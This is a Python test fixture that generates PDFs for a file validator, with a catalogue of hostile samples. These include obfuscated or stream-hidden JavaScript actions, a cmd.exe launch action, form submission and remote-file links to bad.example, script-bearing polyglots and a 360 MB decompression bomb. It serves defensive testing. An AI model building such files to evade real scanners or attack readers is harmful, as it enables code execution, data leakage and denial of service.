"""PDF files for the tests: how they are made, and those that must not be taken."""

import zlib

from tests.contributing_fields.office_corpus import archive
from tests.members.pictures import drawn, saved


def pdf(*objects, head=b"%PDF-1.7\n", trailer=b"", tail=b""):
    """A PDF of one page, with further objects (bodies without "obj")."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + trailer + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        stream(b"BT /F1 12 Tf 20 100 Td (A worksheet) Tj ET"),
        *objects,
    ]
    out, places = head, []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, len(out))
    return out + table + end + tail


def stream(data, entries=b""):
    """A stream with its dictionary."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def packed(data, entries=b""):
    """A stream that is compressed."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def bomb(megabytes):
    """So many megabytes of nothing, compressed."""
    packer = zlib.compressobj(9)
    piece = b"\0" * 1024 * 1024
    return b"".join(packer.compress(piece) for _n in range(megabytes)) + packer.flush()


def hostile_pdfs():
    """{name: (bytes, code)}."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    hidden = b"7 0 " + action
    big = pdf(*[stream(bomb(90), b"/Filter /FlateDecode ") for _n in range(4)])
    return {
        "javascript.pdf": (pdf(action, trailer=b"/OpenAction 5 0 R"), "active"),
        "written otherwise.pdf": (pdf(b"<< /S /J#61v#61Script /#4aS (app.alert(1)) >>"), "active"),
        "in packed objects.pdf": (pdf(packed(hidden, b"/Type /ObjStm /N 1 /First 4 ")), "active"),
        "in packed objects that deny it.pdf": (pdf(packed(hidden, b"/Type /XObject ")), "active"),
        "in twice packed objects.pdf": (
            pdf(stream(zlib.compress(hidden).hex().encode(), b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] ")),
            "active",
        ),
        "within a stream.pdf": (pdf(stream(b"9 0 obj " + action + b" endobj")), "active"),
        "far within a stream.pdf": (pdf(packed(b" " * 3_000_000 + hidden, b"/Type /ObjStm ")), "active"),
        "on the edge of a piece.pdf": (pdf(packed(b" " * (1024 * 1024 - 7) + hidden)), "active"),
        "launch.pdf": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active"),
        "file within.pdf": (
            pdf(stream(b"MZ", b"/Type /EmbeddedFile "), trailer=b"/Names << /EmbeddedFiles 6 0 R >>"),
            "active",
        ),
        "film.pdf": (pdf(b"<< /Subtype /RichMedia >>"), "active"),
        "rendition.pdf": (pdf(b"<< /S /Rendition /JS (x) >>"), "active"),
        "sends.pdf": (pdf(b"<< /S /SubmitForm /F (https://bad.example/) >>"), "active"),
        "imports.pdf": (pdf(b"<< /S /ImportData /F (x.fdf) >>"), "active"),
        "leads to a file.pdf": (pdf(b"<< /S /GoToR /F (\\\\\\\\bad.example\\\\share) >>"), "active"),
        "leads to a file within.pdf": (pdf(b"<< /S /GoToE >>"), "active"),
        "xfa.pdf": (pdf(trailer=b"/AcroForm << /XFA [(template) 5 0 R] >>"), "active"),
        "javascript address.pdf": (pdf(b"<< /S /URI /URI (javascript:alert(1)) >>"), "active"),
        "locked.pdf": (pdf(trailer=b"/Encrypt 5 0 R"), "encrypted"),
        "only a head.pdf": (b"%PDF-1.7\n", "damaged"),
        "unknown version.pdf": (pdf(head=b"%PDF-9.9\n"), "damaged"),
        "cut.pdf": (pdf()[:-60], "damaged"),
        "no table.pdf": (b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF", "damaged"),
        "archive behind.pdf": (pdf(tail=archive({"x.html": "<script>1</script>"})), "two_in_one"),
        "page behind.pdf": (pdf(tail=b"<html><script>alert(1)</script></html>"), "two_in_one"),
        "program behind.pdf": (pdf(tail=b"MZ" + b"\x90" * 300), "two_in_one"),
        "page within.pdf": (pdf(stream(b"<script>alert(1)</script>")), "two_in_one"),
        "page before.pdf": (b"<html><script>alert(1)</script><!--" + pdf(), "two_in_one"),
        "picture before.pdf": (saved(drawn(), "GIF") + pdf(), None),
        "line before.pdf": (b"\n" + pdf(), "two_in_one"),
        "bomb.pdf": (big, "bomb"),
    }
